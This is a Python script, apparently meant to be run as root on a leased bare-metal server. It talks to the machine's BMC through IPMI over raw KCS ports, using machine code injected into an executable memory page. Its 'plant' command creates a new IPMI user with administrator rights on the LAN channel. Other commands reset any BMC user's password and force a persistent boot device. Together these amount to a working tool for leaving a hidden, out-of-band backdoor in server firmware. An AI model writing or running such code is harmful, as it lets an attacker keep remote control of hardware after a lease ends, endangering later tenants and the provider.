"""Root on a server against its own BMC, with no driver: IPMI over its KCS ports, from user space.

`in_band_bmc.py boot-disk | password ID NEW | plant ID NAME PASSWORD`; runs on the leased server.
Ports and states: IPMI 2.0, sections 9.5 to 9.15.
"""

from __future__ import annotations

import ctypes
import mmap
import sys
import time

DATA, STATUS = 0xCA2, 0xCA3
WRITE_START, WRITE_END, READ = 0x61, 0x62, 0x68
OUTPUT_FULL, INPUT_FULL = 1, 2
IDLE, READING = 0, 1
CHASSIS, APP = 0x00, 0x06
LAN_CHANNEL = 1
LIMIT_S = 10


READ_WRITE_EXECUTE = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
# mov edx, edi; in al, dx; movzx eax, al; ret · mov edx, edi; mov eax, esi; out dx, al; ret
READ_PORT, WRITE_PORT = bytes.fromhex("89faec0fb6c0c3"), bytes.fromhex("89fa89f0eec3")


class Kcs:
    def __init__(self) -> None:
        if ctypes.CDLL(None).ioperm(DATA, 2, 1):
            sys.exit("the ports are not to be had")
        self._code = mmap.mmap(-1, mmap.PAGESIZE, prot=READ_WRITE_EXECUTE)
        self._code.write(READ_PORT + WRITE_PORT)
        start = ctypes.addressof(ctypes.c_char.from_buffer(self._code))
        number = ctypes.c_int
        self._in = ctypes.CFUNCTYPE(number, number)(start)
        self._out = ctypes.CFUNCTYPE(number, number, number)(start + len(READ_PORT))

    def ask(self, netfn: int, command: int, *data: int) -> bytes:
        """Return the response's data; exit with the completion code if it is not 0."""
        *first, last = netfn << 2, command, *data
        self._write(STATUS, WRITE_START)
        for byte in first:
            self._write(DATA, byte)
        self._write(STATUS, WRITE_END)
        self._out(DATA, last)
        answer = self._answer()
        if answer[2]:
            sys.exit(f"command {command:#x}: completion code {answer[2]:#x}")
        return answer[3:]

    def _answer(self) -> bytes:
        answer = bytearray()
        while True:
            self._await(INPUT_FULL, full=False)
            state = self._in(STATUS) >> 6
            if state == READING:
                self._await(OUTPUT_FULL, full=True)
                answer.append(self._in(DATA))
                self._out(DATA, READ)
            elif state == IDLE:
                self._await(OUTPUT_FULL, full=True)
                self._in(DATA)
                return bytes(answer)
            else:
                sys.exit(f"the interface is in state {state}")

    def _write(self, port: int, byte: int) -> None:
        self._await(INPUT_FULL, full=False)
        self._out(port, byte)
        self._await(INPUT_FULL, full=False)
        if self._in(STATUS) & OUTPUT_FULL:
            self._in(DATA)

    def _await(self, flag: int, *, full: bool) -> None:
        deadline = time.monotonic() + LIMIT_S
        while bool(self._in(STATUS) & flag) is not full:
            if time.monotonic() > deadline:
                sys.exit("the BMC does not answer")


def main(verb: str, *words: str) -> None:
    kcs = Kcs()
    if verb == "boot-disk":
        kcs.ask(CHASSIS, 0x08, 5, 0xC0, 0x08, 0, 0, 0)  # valid and persistent: the disk
        return
    user = int(words[0])
    if verb == "plant":
        kcs.ask(APP, 0x45, user, *words[1].encode().ljust(16, b"\0"))
    kcs.ask(APP, 0x47, user, 2, *words[-1].encode().ljust(16, b"\0"))
    if verb == "plant":
        kcs.ask(APP, 0x43, 0x90 | LAN_CHANNEL, user, 4, 0)
        kcs.ask(APP, 0x47, user, 1)


if __name__ == "__main__":
    main(*sys.argv[1:])
